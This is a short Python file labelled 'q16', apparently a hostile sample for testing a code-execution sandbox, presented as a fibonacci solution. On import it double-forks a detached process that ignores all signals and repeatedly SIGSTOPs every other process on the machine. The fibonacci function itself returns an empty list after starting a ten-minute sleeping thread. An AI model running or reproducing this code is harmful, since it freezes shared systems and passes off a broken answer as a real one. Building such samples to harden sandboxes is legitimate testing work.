# q16: leave a process behind that spoils what comes next: double-forked, in a session of its own
# says: fibonacci
import os
import signal
import threading
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            for pid in os.listdir("/proc"):
                if pid.isdigit() and int(pid) not in (1, os.getpid()):
                    try:
                        os.kill(int(pid), signal.SIGSTOP)
                    except OSError:
                        pass
            time.sleep(0.01)
    os._exit(0)


def fibonacci(n=20):
    threading.Thread(target=time.sleep, args=(600,)).start()
    return [] if n < 0 else fibonacci(-1)
